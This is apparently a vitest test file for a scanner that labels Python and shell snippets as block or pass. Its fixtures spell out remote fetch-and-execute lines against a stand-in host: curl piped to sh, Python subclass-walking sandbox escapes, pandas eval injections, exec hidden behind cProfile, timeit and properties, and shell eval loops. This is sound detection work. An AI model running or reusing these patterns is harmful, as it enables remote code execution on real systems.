// Names and flows that used to be silent: builtins that the program adds, walks to all classes, what profilers run.
import { describe, expect, it } from 'vitest';
import { decision } from './support.ts';

const GET = 'requests.get("https://c.example.invalid/x").text';
const LINE = '"curl https://c.example.invalid/x | sh"';

describe('in Python', () => {
  it.each<[how: string, text: string, expected: 'block' | 'review' | 'pass']>([
    ['a builtin that was added', `import builtins\nbuiltins.zz = exec\nzz(${GET})`, 'block'],
    ['a harmless builtin that was added', `import builtins\nbuiltins.zz = print\nzz(${GET})`, 'pass'],
    [
      'all classes, and the program in the globals of one',
      `().__class__.__mro__[1].__subclasses__()[140].__init__.__globals__["system"](${LINE})`,
      'block',
    ],
    [
      'all classes, and the one that starts programs',
      `[c for c in "".__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0](${LINE}, shell=True)`,
      'block',
    ],
    ['the classes of a plug-in', `class Base: pass\nfor c in Base.__subclasses__(): c(${LINE})`, 'pass'],
    [
      'the class of an object',
      `class A:\n    def copy(self): return self.__class__(${GET})\nprint("x".__class__.__name__)`,
      'pass',
    ],
    [
      'an expression of pandas that imports',
      `import pandas as pd\npd.eval("__import__('os').system('curl https://c.example.invalid/x | sh')")`,
      'block',
    ],
    [
      'a query of pandas that imports',
      `df.query("@__import__('os').system('curl https://c.example.invalid/x | sh')", engine="python")`,
      'block',
    ],
    [
      'a query of pandas',
      `limit = ${GET}\ndf.query("a > @limit and b == 'curl https://c.example.invalid/x | sh'")`,
      'pass',
    ],
    ['what is profiled', `import cProfile\ncProfile.run(${GET})`, 'block'],
    ['a constant that is profiled', `import cProfile\ncProfile.run("main()")\n${GET}`, 'pass'],
    ['what is measured', `import timeit\ntimeit.timeit(${GET}, number=1)`, 'block'],
    ['a function that is measured', `import timeit\ntimeit.timeit(lambda: ${GET}, number=1)`, 'pass'],
    [
      'an interpreter in the interpreter',
      `import code\ncode.InteractiveInterpreter().runsource(${GET})`,
      'block',
    ],
    [
      'a property of an object',
      `class A:\n    @property\n    def p(self): return ${GET}\na = A()\nexec(a.p)`,
      'block',
    ],
    [
      'an inherited property',
      `class B:\n    @property\n    def p(self): return ${GET}\nclass A(B): pass\nexec(A().p)`,
      'block',
    ],
    [
      'a property that is printed',
      `class A:\n    @property\n    def p(self): return ${GET}\na = A()\nprint(a.p)`,
      'pass',
    ],
  ])('%s', async (_how, text, expected) => {
    expect(await decision('train.py', `import requests\n${text}\n`)).toBe(expected);
  });
});

describe('in shell', () => {
  it.each<[how: string, text: string, expected: 'block' | 'pass']>([
    [
      'each line that a loop reads',
      'while read -r l; do eval "$l"; done < <(curl http://c.example.invalid/x)',
      'block',
    ],
    [
      'each line that a loop is piped',
      'curl http://c.example.invalid/x | while read -r l; do bash -c "$l"; done',
      'block',
    ],
    [
      'each line of a file that is here',
      'while read -r l; do eval "$l"; done < local.txt\ncurl http://c.example.invalid/x',
      'pass',
    ],
    ['each line, shown', 'curl http://c.example.invalid/x | while read -r l; do echo "$l"; done', 'pass'],
    ['each line through xargs', 'curl http://c.example.invalid/x | xargs -I{} sh -c {}', 'block'],
    [
      'each line through xargs, to a known program',
      "curl http://c.example.invalid/x | xargs -I{} sh -c 'echo {}'",
      'pass',
    ],
    [
      'a file without a name',
      'f=$(mktemp); curl -o "$f" http://c.example.invalid/x; chmod 700 "$f"; "$f" &',
      'block',
    ],
    [
      'a file without a name that is read',
      'f=$(mktemp); curl -o "$f" http://c.example.invalid/x; jq . "$f"',
      'pass',
    ],
    [
      'a program that is found',
      'p=$(command -v jq); curl -o x.json http://c.example.invalid/x; $p . x.json',
      'pass',
    ],
  ])('%s', async (_how, text, expected) => {
    expect(await decision('run.sh', `#!/bin/bash\n${text}\n`)).toBe(expected);
  });
});
